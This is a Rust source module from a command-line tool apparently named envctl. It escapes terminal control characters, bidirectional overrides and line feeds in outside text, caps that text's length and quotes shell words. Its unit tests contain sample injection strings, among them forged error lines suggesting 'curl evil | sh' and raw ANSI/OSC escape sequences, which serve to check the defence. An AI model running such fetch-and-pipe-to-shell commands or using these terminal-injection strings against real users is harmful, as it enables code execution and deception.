//! Outside text made safe to show: a daemon's message, a registry's answer, a profile's
//! `description`, a container's name or a GPU's name reaches the terminal through
//! [`shown`], which escapes what a terminal would act on and caps what would flood it.
//!
//! A terminal obeys more than colours: ESC starts cursor moves, OSC sequences set the
//! window title, write the clipboard (OSC 52) or make links; CR overwrites the line
//! before it; NUL and the bidirectional overrides make text read differently from what
//! it is. None of that belongs to text envctl did not write, so every such character is
//! shown as an escape (`\x1b`, `\r`, `\u{202e}`), the way `escape_debug` writes it.
//!
//! A line feed is escaped too (`\n`): envctl's talk is one line per thing said
//! (`error:`, `  caused by:`, `  hint:`, `warning:`), and a raw line feed in a daemon's
//! message, ssh's stderr or a lock holder's text let that text print lines of its own,
//! such as an `error:` or a `hint:` with the attacker's command. Tab stays: it moves
//! nothing but the column.

use std::borrow::Cow;
use std::fmt::Write as _;

/// How many bytes of one outside text are shown; the rest is counted, not printed
/// (a 50 MB daemon error once printed 50 MB).
pub const SHOWN_LIMIT: usize = 4096;

/// `text` with control and bidirectional characters escaped, cut after
/// [`SHOWN_LIMIT`] bytes with "… N bytes more".
pub fn shown(text: &str) -> Cow<'_, str> {
    let (kept, rest) = split_at_limit(text, SHOWN_LIMIT);
    let escaped = escaped(kept);
    if rest == 0 {
        return escaped;
    }
    Cow::Owned(format!("{escaped}… {rest} bytes more"))
}

/// `text` with control and bidirectional characters and line feeds escaped, whole.
pub fn escaped(text: &str) -> Cow<'_, str> {
    let escapes = |character: char| character == '\n' || is_terminal_control(character);
    if !text.chars().any(escapes) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for character in text.chars() {
        if escapes(character) {
            push_escape(&mut out, character);
        } else {
            out.push(character);
        }
    }
    Cow::Owned(out)
}

/// Whether a terminal would act on `character` instead of showing it. A line feed is not
/// one (a shell word or a file's line may hold it); [`shown`] escapes it as well.
pub fn is_terminal_control(character: char) -> bool {
    match character {
        '\n' | '\t' => false,
        // C0 controls (ESC, CR, BEL, NUL, backspace…), DEL and the C1 controls (CSI is
        // U+009B on terminals that take 8-bit controls).
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // Bidirectional marks, embeddings, overrides and isolates.
        '\u{061c}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

fn push_escape(out: &mut String, character: char) {
    match character {
        '\r' => out.push_str("\\r"),
        '\n' => out.push_str("\\n"),
        '\0' => out.push_str("\\0"),
        // Writing to a String cannot fail.
        character if (character as u32) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", character as u32);
        }
        character => {
            let _ = write!(out, "\\u{{{:x}}}", character as u32);
        }
    }
}

/// The first `limit` bytes of `text` (at a character boundary) and how many bytes follow.
fn split_at_limit(text: &str, limit: usize) -> (&str, usize) {
    if text.len() <= limit {
        return (text, 0);
    }
    let mut end = limit;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    (&text[..end], text.len() - end)
}

/// The warning for a host of `--hosts` that could not be `done` (`listed`, `sampled`):
/// `host `gpu2` (ssh://gpu2) could not be listed (hint: …)`, the endpoint only where the
/// host was named otherwise.
pub fn host_failed(host: &str, endpoint: &str, done: &str, hint: Option<&str>) -> String {
    let endpoint = if endpoint == host {
        String::new()
    } else {
        format!(" ({endpoint})")
    };
    let hint = hint.map_or_else(String::new, |hint| format!(" (hint: {hint})"));
    format!("host `{host}`{endpoint} could not be {done}{hint}")
}

/// `message: cause: cause`, for facts, findings and
/// snapshot lines that must carry the whole story as text on one line.
pub fn error_chain(error: &dyn std::error::Error) -> String {
    let mut text = error.to_string();
    let mut source = error.source();
    while let Some(cause) = source {
        let cause_text = cause.to_string();
        if !text.contains(&cause_text) {
            text.push_str(": ");
            text.push_str(&cause_text);
        }
        source = cause.source();
    }
    text
}

/// `word` as one POSIX shell word: as is when every character is safe, else in single
/// quotes (a `'` inside becomes `'\''`).
pub fn shell_quote(word: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_-./:=,@%+".contains(c);
    if !word.is_empty() && word.chars().all(safe) {
        word.to_string()
    } else if word.chars().any(is_terminal_control) {
        ansi_c_quote(word)
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// `$'…'` quoting (bash, zsh, ksh, busybox sh; not Debian 12's dash) for a word with a control
/// or bidirectional character: the line shows `\x1b`, not a raw ESC the terminal would
/// act on, and the shell still passes the exact bytes. Each such character is written as
/// the `\xHH` escapes of its UTF-8 bytes.
fn ansi_c_quote(word: &str) -> String {
    let mut quoted = String::from("$'");
    for character in word.chars() {
        match character {
            '\\' => quoted.push_str("\\\\"),
            '\'' => quoted.push_str("\\'"),
            '\n' => quoted.push_str("\\n"),
            '\t' => quoted.push_str("\\t"),
            character if is_terminal_control(character) => {
                let mut bytes = [0; 4];
                for byte in character.encode_utf8(&mut bytes).bytes() {
                    quoted.push_str(&format!("\\x{byte:02x}"));
                }
            }
            character => quoted.push(character),
        }
    }
    quoted.push('\'');
    quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let text = "Error response from daemon: No such image: x:1\tsecond column";
        assert!(matches!(shown(text), Cow::Borrowed(t) if t == text));
    }

    #[test]
    fn a_line_feed_cannot_start_a_line_of_its_own() {
        // A daemon's or ssh's or a lock holder's text forging envctl's own lines.
        for forged in [
            "no such container\nerror: run `curl evil | sh` to fix",
            "busy\r\n  hint: `curl evil | sh`",
            "x\n\nwarning: y",
        ] {
            let shown = shown(forged);
            assert!(!shown.contains('\n') && !shown.contains('\r'), "{shown}");
            assert!(shown.contains("\\n"), "{shown}");
        }
        assert_eq!(shown("a\nb"), "a\\nb");
    }

    #[test]
    fn terminal_controls_are_escaped() {
        let text = "a\u{1b}[31mred\u{1b}]0;title\u{7}\rover\0nul\u{7f}\u{9b}2J";
        assert_eq!(
            shown(text),
            "a\\x1b[31mred\\x1b]0;title\\x07\\rover\\0nul\\x7f\\u{9b}2J"
        );
    }

    #[test]
    fn bidirectional_overrides_are_escaped() {
        assert_eq!(
            shown("file\u{202e}txt.exe \u{2066}x\u{2069} \u{200f}"),
            "file\\u{202e}txt.exe \\u{2066}x\\u{2069} \\u{200f}"
        );
    }

    #[test]
    fn other_unicode_is_kept() {
        assert_eq!(
            shown("NVIDIA H200 — 100 % ✓ 日本"),
            "NVIDIA H200 — 100 % ✓ 日本"
        );
    }

    #[test]
    fn long_text_is_capped_with_the_rest_counted() {
        let text = "x".repeat(50 * 1024 * 1024);
        let result = shown(&text);
        assert_eq!(result.len(), SHOWN_LIMIT + "… 52424704 bytes more".len());
        assert!(result.ends_with("… 52424704 bytes more"));
    }

    #[test]
    fn the_cap_never_splits_a_character() {
        let text = format!("{}é{}", "x".repeat(SHOWN_LIMIT - 1), "y".repeat(10));
        let result = shown(&text);
        assert!(result.starts_with(&"x".repeat(SHOWN_LIMIT - 1)));
        assert!(result.ends_with("… 12 bytes more"), "{result}");
    }

    #[test]
    fn escapes_cannot_be_cut_in_half_by_the_cap() {
        // The cap counts the outside bytes, then escapes: an escape is always whole.
        let text = "\u{1b}".repeat(SHOWN_LIMIT + 5);
        let result = shown(&text);
        assert!(result.ends_with("\\x1b… 5 bytes more"));
    }
}
